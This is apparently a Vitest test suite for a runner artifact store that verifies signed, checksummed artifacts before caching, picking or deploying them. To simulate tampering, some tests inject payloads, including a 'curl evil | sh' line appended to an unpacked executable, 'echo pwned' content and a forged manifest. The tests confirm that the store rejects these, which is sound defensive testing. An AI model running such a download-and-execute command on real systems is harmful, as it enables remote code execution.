/**
 * ArtifactStore on a real SQLite file and real signed artifacts written to temp folders: importing bundled artifacts
 * into the cache (hits and misses counted), registration in runner_artifacts, the pick() rules, and refusal of
 * anything whose checksum or signature is wrong, on scan and on every open().
 */
import { createHash, createPrivateKey } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import zlib from 'node:zlib';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { openDatabase, type AppDatabase } from '../../../src-main/core/db/database';
import { createMetrics, type Metrics } from '../../../src-main/core/metrics/metrics';
import {
  generateSigningKeyPair,
  keyIdOf,
  signArtifact,
  trustedKeyFromPem,
  type SigningKey,
  type TrustedKey,
} from '../../../src-main/core/runners/artifact-signing';
import { ArtifactStore, platformOfUname, type ArtifactRecord } from '../../../src-main/core/runners/artifact-store';
import { ErrorCode } from '../../../src-shared/errors';

const MIGRATIONS = path.resolve(__dirname, '../../../migrations');

function keyOf(pair: ReturnType<typeof generateSigningKeyPair>): SigningKey {
  const privateKey = createPrivateKey(pair.privateKeyPem);
  return { keyId: keyIdOf(privateKey), purpose: 'development', privateKey, publicKeyPem: pair.publicKeyPem };
}

interface Target {
  version: string;
  kind: 'sea' | 'js';
  os?: string;
  arch?: string;
  capabilities?: string[];
}

/** Writes an artifact exactly as scripts/build-runner.mjs lays it out, with distinct content per target. */
function writeArtifact(dir: string, t: Target, key: SigningKey): { folder: string; content: Buffer } {
  const os_ = t.kind === 'js' ? 'any' : (t.os ?? 'linux');
  const arch = t.kind === 'js' ? 'any' : (t.arch ?? 'x64');
  const folder = path.join(dir, t.version, t.kind === 'js' ? 'js' : `${os_}-${arch}`);
  fs.mkdirSync(folder, { recursive: true });
  const content = Buffer.from(`#!runner ${t.version} ${os_}-${arch} ${t.kind}\n`.repeat(2000));
  const gz = zlib.gzipSync(content);
  fs.writeFileSync(path.join(folder, t.kind === 'js' ? 'cronium-runner.cjs.gz' : 'cronium-runner.gz'), gz);
  const sha = (b: Buffer) => createHash('sha256').update(b).digest('hex');
  const fields = { version: t.version, os: os_, arch, kind: t.kind, sha256: sha(content) };
  const manifest = {
    ...fields,
    compressedSha256: sha(gz),
    size: content.length,
    compressedSize: gz.length,
    ...signArtifact(fields, key),
    builtAt: new Date().toISOString(),
    capabilities: t.capabilities ?? ['spool', 'helpers', 'replay', 'cancel', 'health'],
    protocolVersion: 1,
  };
  fs.writeFileSync(path.join(folder, 'manifest.json'), JSON.stringify(manifest, null, 2));
  return { folder, content };
}

async function counter(c: Metrics['runnerArtifactCacheHits']): Promise<number> {
  return (await c.get()).values[0]?.value ?? 0;
}

let tmp: string;
let bundled: string;
let cache: string;
let db: AppDatabase;
let metrics: Metrics;
let key: SigningKey;
let trusted: TrustedKey[];
let store: ArtifactStore;

beforeEach(() => {
  tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'cronium-artifacts-'));
  bundled = path.join(tmp, 'bundled');
  cache = path.join(tmp, 'cache');
  db = openDatabase(path.join(tmp, 'cronium.sqlite'), MIGRATIONS);
  metrics = createMetrics();
  key = keyOf(generateSigningKeyPair());
  trusted = [trustedKeyFromPem(key.publicKeyPem, 'development')];
  store = new ArtifactStore({ db, metrics, trustedKeys: trusted, artifactDir: () => cache, bundledDir: bundled });
});
afterEach(() => {
  db.close();
  fs.rmSync(tmp, { recursive: true, force: true });
});

describe('the runner artifact store', () => {
  describe('when the app scans its bundled artifacts', () => {
    it('imports them into the cache, registers one row per version/os/arch/kind and counts misses then hits', async () => {
      writeArtifact(bundled, { version: '1.0.0', kind: 'sea', arch: 'x64' }, key);
      writeArtifact(bundled, { version: '1.0.0', kind: 'sea', arch: 'arm64' }, key);
      writeArtifact(bundled, { version: '1.0.0', kind: 'js' }, key);

      const first = await store.scan();
      expect(first.map((r) => `${r.kind}:${r.os}-${r.arch}`).sort()).toEqual(['js:any-any', 'sea:linux-arm64', 'sea:linux-x64']);
      expect(await counter(metrics.runnerArtifactCacheMisses)).toBe(3);
      expect(await counter(metrics.runnerArtifactCacheHits)).toBe(0);
      for (const r of first) expect(r.compressedPath.startsWith(cache + path.sep)).toBe(true);

      const rows = await db.kysely.selectFrom('runner_artifacts').selectAll().execute();
      expect(rows).toHaveLength(3);
      expect(rows.every((r) => r.signature && r.checksum.length === 64 && r.size_bytes! > r.compressed_size_bytes!)).toBe(true);

      const second = await store.scan();
      expect(second.map((r) => r.id).sort()).toEqual(first.map((r) => r.id).sort());
      expect(await counter(metrics.runnerArtifactCacheHits)).toBe(3);
      expect(await counter(metrics.runnerArtifactCacheMisses)).toBe(3);
      expect(await db.kysely.selectFrom('runner_artifacts').select('id').execute()).toHaveLength(3);
    });

    it('replaces the cached copy and updates the row when the bundled artifact was rebuilt', async () => {
      writeArtifact(bundled, { version: '1.0.0', kind: 'js' }, key);
      const [before] = await store.scan();
      const rebuilt = path.join(bundled, '1.0.0', 'js');
      fs.rmSync(rebuilt, { recursive: true });
      const other = keyOf(generateSigningKeyPair());
      store = new ArtifactStore({ db, metrics, trustedKeys: [...trusted, trustedKeyFromPem(other.publicKeyPem, 'release')], artifactDir: () => cache, bundledDir: bundled });
      writeArtifact(bundled, { version: '1.0.0', kind: 'js', capabilities: ['spool'] }, other);
      const [after] = await store.scan();
      expect(after.id).toBe(before.id);
      expect(after.keyId).toBe(other.keyId);
      expect(after.capabilities).toEqual(['spool']);
      expect(await counter(metrics.runnerArtifactCacheMisses)).toBe(2);
    });

    it('leaves out a bundled artifact signed by an unknown key or with a wrong checksum, and says why', async () => {
      writeArtifact(bundled, { version: '1.0.0', kind: 'sea' }, keyOf(generateSigningKeyPair()));
      const { folder } = writeArtifact(bundled, { version: '1.0.0', kind: 'js' }, key);
      const gz = path.join(folder, 'cronium-runner.cjs.gz');
      fs.appendFileSync(gz, Buffer.from([0]));
      writeArtifact(bundled, { version: '1.1.0', kind: 'sea' }, key);

      const records = await store.scan();
      expect(records.map((r) => r.version)).toEqual(['1.1.0']);
      expect(store.rejected().map((r) => r.code).sort()).toEqual([ErrorCode.ARTIFACT_TAMPERED, ErrorCode.ARTIFACT_UNTRUSTED_KEY]);
      expect(await db.kysely.selectFrom('runner_artifacts').select('version').execute()).toEqual([{ version: '1.1.0' }]);
    });

    it('drops rows whose cached files are gone', async () => {
      writeArtifact(bundled, { version: '1.0.0', kind: 'js' }, key);
      await store.scan();
      fs.rmSync(bundled, { recursive: true });
      fs.rmSync(cache, { recursive: true });
      expect(await store.scan()).toEqual([]);
      expect(await store.list()).toEqual([]);
    });
  });

  describe('when an artifact is picked for a server', () => {
    beforeEach(async () => {
      writeArtifact(bundled, { version: '1.0.0', kind: 'sea', arch: 'x64' }, key);
      writeArtifact(bundled, { version: '1.0.0', kind: 'sea', arch: 'arm64' }, key);
      writeArtifact(bundled, { version: '1.0.0', kind: 'js' }, key);
      writeArtifact(bundled, { version: '1.2.0', kind: 'sea', arch: 'x64', capabilities: ['spool', 'helpers', 'replay', 'cancel', 'health', 'resident'] }, key);
      writeArtifact(bundled, { version: '1.1.0', kind: 'js' }, key);
      await store.scan();
    });
    const pick = (r: Parameters<ArtifactStore['pick']>[0]) => store.pick(r).then((a: ArtifactRecord) => `${a.version} ${a.kind} ${a.os}-${a.arch}`);

    it('gives the newest single executable for the os/arch', async () => {
      expect(await pick({ os: 'linux', arch: 'x64' })).toBe('1.2.0 sea linux-x64');
      expect(await pick({ os: 'linux', arch: 'x64', nodeVersion: 'v20.1.0' })).toBe('1.2.0 sea linux-x64');
    });

    it('gives exactly the version asked for, preferring the JS bundle when Node >= 18 or a runtime runs it', async () => {
      expect(await pick({ os: 'linux', arch: 'x64', version: '1.0.0', nodeVersion: 'v22.0.0' })).toBe('1.0.0 js any-any');
      expect(await pick({ os: 'linux', arch: 'x64', version: '1.0.0', nodeVersion: null, runtimeAvailable: true })).toBe('1.0.0 js any-any');
      // The single executable is the last resort: no usable Node and no runtime for the target.
      expect(await pick({ os: 'linux', arch: 'x64', version: '1.0.0', nodeVersion: 'v16.20.2' })).toBe('1.0.0 sea linux-x64');
      expect(await pick({ os: 'linux', arch: 'arm64', version: '1.1.0', nodeVersion: 'v18.19.0' })).toBe('1.1.0 js any-any');
    });

    it('falls back to the JS artifact on a platform without a single executable when Node >= 18 is there', async () => {
      expect(await pick({ os: 'freebsd', arch: 'x64', nodeVersion: 'v18.0.0' })).toBe('1.1.0 js any-any');
      // A newer JS runner wins over an older single executable.
      expect(await pick({ os: 'linux', arch: 'arm64', nodeVersion: 'v20.11.1' })).toBe('1.1.0 js any-any');
      expect(await pick({ os: 'linux', arch: 'arm64' })).toBe('1.0.0 sea linux-arm64');
    });

    it('honours a minimum version and required capabilities', async () => {
      expect(await pick({ os: 'linux', arch: 'x64', minVersion: '1.1.0', capabilities: ['resident'] })).toBe('1.2.0 sea linux-x64');
      await expect(store.pick({ os: 'linux', arch: 'arm64', capabilities: ['resident'], nodeVersion: 'v20.0.0' })).rejects.toMatchObject({
        code: ErrorCode.RUNNER_ARTIFACT_UNAVAILABLE,
      });
    });

    it('refuses clearly when nothing fits: no executable for the platform and Node missing or too old', async () => {
      for (const nodeVersion of [null, 'v16.20.2']) {
        const err = await store.pick({ os: 'linux', arch: 's390x', nodeVersion }).catch((e: Error) => e);
        expect(err).toMatchObject({ code: ErrorCode.RUNNER_ARTIFACT_UNAVAILABLE });
        expect((err as Error).message).toMatch(/linux-s390x.*Node >= 18/);
      }
    });
  });

  describe('when an artifact is opened for deployment', () => {
    let record: ArtifactRecord;
    let content: Buffer;
    beforeEach(async () => {
      ({ content } = writeArtifact(bundled, { version: '1.0.0', kind: 'sea' }, key));
      [record] = await store.scan();
    });

    it('hands out the verified gzip and the unpacked executable, every time', async () => {
      const opened = await store.open(record);
      expect(fs.readFileSync(opened.path)).toEqual(content);
      expect(fs.statSync(opened.path).mode & 0o111).not.toBe(0);
      expect(opened.sha256).toBe(record.sha256);
      expect(zlib.gunzipSync(fs.readFileSync(opened.compressedPath))).toEqual(content);
      expect((await store.open(record)).path).toBe(opened.path);
    });

    it('hands out the gzip bytes it hashed (sent in an exec stdin), and refuses altered ones before anything is sent', async () => {
      const opened = await store.open(record, { unpacked: false, compressedBytes: true });
      expect(opened.path).toBeNull();
      expect(zlib.gunzipSync(opened.compressedBytes)).toEqual(content);
      fs.writeFileSync(record.compressedPath, zlib.gzipSync(Buffer.from('echo pwned')));
      await expect(store.open(record, { unpacked: false, compressedBytes: true })).rejects.toMatchObject({ code: ErrorCode.ARTIFACT_TAMPERED });
      expect(fs.existsSync(record.compressedPath)).toBe(false);
    });

    it('refuses a cached gzip altered after import, removes it, and restores it at the next scan', async () => {
      fs.writeFileSync(record.compressedPath, zlib.gzipSync(Buffer.from('echo pwned')));
      await expect(store.open(record)).rejects.toMatchObject({ code: ErrorCode.ARTIFACT_TAMPERED });
      expect(fs.existsSync(record.compressedPath)).toBe(false);
      const [restored] = await store.scan();
      expect(await counter(metrics.runnerArtifactCacheMisses)).toBe(2);
      expect(fs.readFileSync((await store.open(restored)).path)).toEqual(content);
    });

    it('refuses an unpacked executable altered after unpacking', async () => {
      const { path: exe } = await store.open(record);
      fs.appendFileSync(exe, 'curl evil | sh\n');
      await expect(store.open(record)).rejects.toThrow(/failed verification: .*cronium-runner has sha256/);
      expect(fs.readFileSync((await store.open(record)).path)).toEqual(content);
    });

    it('unpacks once when many deployments open the same artifact at once', async () => {
      const opened = await Promise.all(Array.from({ length: 8 }, () => store.open(record)));
      expect(new Set(opened.map((o) => o.path)).size).toBe(1);
      expect(fs.readFileSync(opened[0]!.path)).toEqual(content);
      expect(fs.readdirSync(path.dirname(record.compressedPath)).filter((f) => f.endsWith('.tmp'))).toEqual([]);
    });

    it('removes the partial unpacked file when unpacking fails (disk full), and unpacks at the next open', async () => {
      const exe = path.join(path.dirname(record.compressedPath), 'cronium-runner');
      const tmpFile = `${exe}.${process.pid}.tmp`;
      // Writes to /dev/full fail with ENOSPC after the file opened: the unpack fails mid-way, as on a full disk.
      fs.symlinkSync('/dev/full', tmpFile);
      await expect(store.open(record)).rejects.toThrow(/ENOSPC/);
      expect(fs.existsSync(exe)).toBe(false);
      expect(() => fs.lstatSync(tmpFile)).toThrow(/ENOENT/);
      expect(fs.readFileSync((await store.open(record)).path)).toEqual(content);
    });

    it('refuses a manifest whose signed checksum was rewritten to match a swapped file', async () => {
      const evil = Buffer.from('evil');
      const gz = zlib.gzipSync(evil);
      const manifestPath = path.join(path.dirname(record.compressedPath), 'manifest.json');
      const m = JSON.parse(fs.readFileSync(manifestPath, 'utf8'));
      const sha = (b: Buffer) => createHash('sha256').update(b).digest('hex');
      fs.writeFileSync(record.compressedPath, gz);
      fs.writeFileSync(manifestPath, JSON.stringify({ ...m, sha256: sha(evil), compressedSha256: sha(gz), size: evil.length, compressedSize: gz.length }));
      await expect(store.open(record)).rejects.toMatchObject({ code: ErrorCode.ARTIFACT_TAMPERED });
      expect(await store.list()).toEqual([]);
    });
  });

  describe('when a server reports uname', () => {
    it.each([
      ['Linux', 'x86_64', 'linux', 'x64'],
      ['Linux', 'aarch64', 'linux', 'arm64'],
      ['Darwin', 'arm64', 'darwin', 'arm64'],
      ['Linux', 's390x', 'linux', 's390x'],
    ])('%s %s is %s-%s', (s, m, os_, arch) => {
      expect(platformOfUname(s, m)).toEqual({ os: os_, arch });
    });
  });
});
